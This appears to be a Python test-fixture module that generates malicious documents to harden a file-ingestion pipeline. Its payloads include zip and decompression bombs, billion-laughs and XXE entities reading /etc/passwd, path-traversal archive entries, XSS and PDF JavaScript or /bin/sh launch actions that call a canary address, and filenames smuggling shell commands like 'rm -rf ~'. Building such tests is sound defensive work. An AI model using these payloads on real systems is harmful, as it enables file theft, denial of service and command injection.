"""Documents that mean no good. `canary` is an address that nobody may ask."""

import codecs
import io
import zipfile
import zlib
from pathlib import Path

UNREADABLE = Path(__file__).parent / "documents" / "corpus" / "unreadable"
SCRIPT = "<script>fetch('{0}')</script><img src='{0}' onerror='fetch(\"{0}\")'>"
LAUGHS = "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10 if i else "ha" * 10}">' for i in range(12))
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
CONTAINER = (
    '<container xmlns="urn:oasis:names:tc:opendocument:xmlns:container"><rootfiles>'
    '<rootfile full-path="{0}"/></rootfiles></container>'
)


def packed(files):
    """A ZIP archive."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        for name, content in files.items():
            archive.writestr(name, content)
    return out.getvalue()


def word(document, relations="", **more):
    types = (
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
        'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
        '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-'
        'officedocument.wordprocessingml.document.main+xml"/></Types>'
    )
    main = f'<Relationship Id="r" Type="{OFFICE}/officeDocument" Target="word/document.xml"/>'
    return packed({
        "[Content_Types].xml": types,
        "_rels/.rels": f'<Relationships xmlns="{RELATIONS}">{main}</Relationships>',
        "word/document.xml": document,
        "word/_rels/document.xml.rels": f'<Relationships xmlns="{RELATIONS}">{relations}'
        "</Relationships>",
        **more,
    })  # fmt: skip


def body(inside, doctype=""):
    return f'{doctype}<w:document xmlns:w="{W}"><w:body>{inside}</w:body></w:document>'


def paragraph(text):
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def book(chapter, package=None, container=None, spine=1, href="a.xhtml", **more):
    item = f'<item id="a" href="{href}" media-type="application/xhtml+xml"/>'
    references = '<itemref idref="a"/>' * spine
    package = package or (
        f'<package xmlns="http://www.idpf.org/2007/opf"><manifest>{item}</manifest>'
        f"<spine>{references}</spine></package>"
    )
    return packed({
        "mimetype": "application/epub+zip",
        "META-INF/container.xml": container or CONTAINER.format("book.opf"),
        "book.opf": package,
        "a.xhtml": chapter,
        **more,
    })  # fmt: skip


def page(text):
    return f'<html xmlns="http://www.w3.org/1999/xhtml"><body>{text}</body></html>'


def pdf(*objects, root="1 0 R"):
    """A PDF without a table of contents, which readers make up for themselves."""
    numbered = b"".join(
        b"%d 0 obj\n%s\nendobj\n" % (i, o if isinstance(o, bytes) else o.encode())
        for i, o in enumerate(objects, 1)
    )
    return b"%PDF-1.7\n" + numbered + f"trailer << /Root {root} >>\n%%EOF".encode()


def stream(content, filters="/FlateDecode"):
    return b"<< /Length %d /Filter %s >>\nstream\n%s\nendstream" % (
        len(content),
        filters.encode(),
        content,
    )


def sheet(*more, catalog="", page="", content=b"BT /F 12 Tf (Hello there.) Tj ET"):
    """A PDF of one page."""
    return pdf(
        f"<< /Type /Catalog /Pages 2 0 R {catalog} >>",
        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 600 800] /Contents 4 0 R {page} "
        "/Resources << /Font << /F << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >> >>",
        stream(zlib.compress(content)),
        *more,
    )


def external(canary):
    """An entity that stands for a file, one for an address, and a DTD at an address."""
    return (
        f'<!DOCTYPE x SYSTEM "{canary}/x.dtd" [<!ENTITY secret SYSTEM "file:///etc/passwd">'
        f'<!ENTITY page SYSTEM "{canary}/e"><!ENTITY % all SYSTEM "{canary}/p"> %all;]>'
    )


def documents(canary):
    """What makes each of them, by what they try."""
    script = SCRIPT.format(canary)
    laughs, outside = f"<!DOCTYPE x [{LAUGHS}]>", external(canary)
    zeros = b"\0" * (40 * 2**20)
    on_open = "/OpenAction 5 0 R"
    link = f'<Relationship Id="x" Type="{OFFICE}/{{0}}" Target="{canary}" TargetMode="External"/>'
    return {
        # Word
        "docx: a bomb": lambda: word(body(paragraph(" " * (130 * 2**20)))),
        "docx: a bomb of words": lambda: word(body(paragraph("ha " * 9_000_000))),
        "docx: a bomb beside": lambda: word(
            body(paragraph("x")), **{"word/media/a.bmp": zeros * 4}
        ),
        "docx: entities": lambda: word(body(paragraph("&l11;"), laughs)),
        "docx: outside entities": lambda: word(body(paragraph("&secret;&page;"), outside)),
        "docx: a picture elsewhere": lambda: word(body(paragraph("x")), link.format("image")),
        "docx: a template elsewhere": lambda: word(body("x"), link.format("attachedTemplate")),
        "docx: notes elsewhere": lambda: word(body(paragraph("x")), link.format("footnotes")),
        "docx: no parts": lambda: packed({"word/document.xml": body(paragraph("x"))}),
        "docx: no XML": lambda: word("no XML"),
        "docx: deep": lambda: word(body("<w:sdt>" * 20_000 + "</w:sdt>" * 20_000)),
        "docx: a cell in a cell": lambda: word(
            body("<w:tbl><w:tr><w:tc>" * 80 + "</w:tc></w:tr></w:tbl>" * 80)
        ),
        "docx: script": lambda: word(body(paragraph("&lt;script>fetch(1)&lt;/script>"))),
        "docx: cut": lambda: word(body(paragraph("x" * 9999)))[:-200],
        "docx: encrypted": lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
        + "EncryptedPackage".encode("utf-16le"),
        # e-books
        "epub: a bomb": lambda: book(page("<p> </p>" * 10 + " " * (130 * 2**20))),
        "epub: one chapter again and again": lambda: book(page("ha " * 300_000), spine=20_000),
        "epub: entities": lambda: book(laughs + page("&l11;")),
        "epub: outside entities": lambda: book(outside + page("&secret;&page;")),
        "epub: entities in the package": lambda: book(
            page("x"), package=f"{laughs}<package>&l11;</package>"
        ),
        "epub: entities in the container": lambda: book(
            page("x"), container=f"{outside}<a>&page;</a>"
        ),
        "epub: a path to elsewhere": lambda: book(page("x"), href="../../../../../../etc/passwd"),
        "epub: an address": lambda: book(page("x"), href=f"{canary}/a.xhtml"),
        "epub: a package elsewhere": lambda: book("x", container=CONTAINER.format("/etc/passwd")),
        "epub: no package": lambda: book(page("x"), container="<container/>"),
        "epub: encrypted": lambda: book(
            page("x"),
            **{"META-INF/encryption.xml": '<a><EncryptionMethod Algorithm="urn:aes"/></a>'},
        ),
        "epub: script": lambda: book(page(script + f"<iframe src='{canary}'></iframe>")),
        "zip: many files": lambda: packed({f"{i}.txt": "" for i in range(20_001)}),
        "zip: in a zip": lambda: packed({"a.zip": packed({"a.docx": packed({"a": zeros})})}),
        "zip: paths": lambda: packed({"../../evil.txt": "x", "/etc/evil": "x"}),
        # PDF
        "pdf: encrypted": lambda: (UNREADABLE / "encrypted.pdf").read_bytes(),
        "pdf: scanned": lambda: (UNREADABLE / "scanned.pdf").read_bytes(),
        "pdf: a bomb": lambda: sheet(content=b"% " * (50 * 2**20)),
        "pdf: a bomb in a bomb": lambda: pdf(
            "<< /Type /Catalog /Pages 2 0 R >>",
            "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            "<< /Type /Page /Parent 2 0 R /Contents 4 0 R >>",
            stream(zlib.compress(zlib.compress(zeros * 2)), "[/FlateDecode /FlateDecode]"),
        ),
        "pdf: pages in a circle": lambda: pdf(
            "<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [2 0 R] /Count 9 >>"
        ),
        "pdf: a billion pages": lambda: pdf(
            "<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [] /Count 999999999 >>"
        ),
        "pdf: an outline in a circle": lambda: sheet(
            "<< /First 6 0 R >>", "<< /Title (a) /Next 6 0 R /First 6 0 R >>",
            catalog="/Outlines 5 0 R",
        ),
        "pdf: script": lambda: sheet(
            f"<< /S /JavaScript /JS (app.launchURL('{canary}')) >>", catalog=on_open
        ),
        "pdf: a program": lambda: sheet("<< /S /Launch /F (/bin/sh) >>", catalog=on_open),
        "pdf: an address": lambda: sheet(f"<< /S /URI /URI ({canary}) >>", catalog=on_open),
        "pdf: a form that is sent": lambda: sheet(
            f"<< /S /SubmitForm /F ({canary}) >>", page="/AA << /O 5 0 R >>"
        ),
        "pdf: a page without end": lambda: sheet(page="/MediaBox [0 0 1e30 1e30]"),
        "pdf: nothing": lambda: b"%PDF-1.7\n",
        "pdf: noise": lambda: b"%PDF-1.7\n" + bytes(range(256)) * 400,
        "pdf: cut": lambda: (UNREADABLE / "partly.pdf").read_bytes()[:700],
        "pdf: deep": lambda: pdf("<< /a " + "[" * 100_000 + "]" * 100_000 + " >>"),
        # web pages
        "html: script in every field": lambda: f"<html><head><title>{script}</title><meta "
        f"http-equiv=refresh content='0;url={canary}'><base href='{canary}'>"
        f"<link rel=stylesheet href='{canary}/c'>"
        f"</head><body onload=fetch('{canary}')><h1>{script}</h1><p title=\"{script}\">x {script}"
        f"<svg onload=fetch('{canary}')></svg><object data='{canary}'></object>".encode(),
        "html: a DTD": lambda: f'<!DOCTYPE html SYSTEM "{canary}/x"><html><body>x'.encode(),
        "html: deep": lambda: b"<html><body>" + b"<div>" * 200_000,
        "html: deep lists": lambda: b"<html><body>" + b"<ul><li>a" * 30_000,
        "html: a million tags": lambda: b"<html><body>" + b"<p>a<b>" * 50_000,
        "html: one attribute": lambda: b"<html><body><p a='" + b"x" * 3_000_000 + b"'>x",
        "html: a comment without end": lambda: b"<html><body><!--" + b"-" * 9_000_000,
        "html: entities": lambda: f"{laughs}<html><body>&l11;</body></html>".encode(),
        "html: a false encoding": lambda: b"<html><meta charset=idna><body>\xff\xfe\xfd",
        # captions and text
        "vtt: script": lambda: f"WEBVTT\n\n00:01.000 --> 00:02.000\n<v {script}>a\n".encode(),
        "vtt: no cues": lambda: b"WEBVTT\n\n" + b"00:00.000 -->\n\n" * 10_000,
        "vtt: tags": lambda: b"WEBVTT\n\n00:01.000 --> 00:02.000\n" + b"<v " * 500_000,
        "srt: many": lambda: b"1\n00:00:01,000 --> 00:00:02,000\na\n\n" * 10_000,
        "text: one line": lambda: b"a" * 9_000_000,
        "text: headings": lambda: b"# a\n" * 500_000,
        "text: half a character": lambda: codecs.BOM_UTF16_LE + b"\x00\xd8",
        "a program": lambda: b"\x7fELF" + bytes(range(256)) * 100,
        "a picture": lambda: b"\x89PNG\r\n\x1a\n" + bytes(500),
        "a film": lambda: b"\x1aE\xdf\xa3" + bytes(500),
        "gzip": lambda: b"\x1f\x8b\x08" + bytes(500),
    }  # fmt: skip


NAMES = (
    "<script>alert(1)</script>.pdf",
    "'\"><img src=x onerror=alert(1)>.docx",
    "../../../../etc/passwd",
    "..\\..\\windows\\system32\\config.txt",
    "/etc/shadow",
    "a\x00b.pdf",
    "a\r\nSet-Cookie: x=1.pdf",
    "$(touch /tmp/owned).pdf",
    "`id`.pdf; rm -rf ~",
    "{{7*7}}${7*7}#{7*7}.pdf",
    "%s%s%s%n.pdf",
    "\u202efdp.exe",
    "con",
    "-rf",
    "x" * 1000 + ".pdf",
)
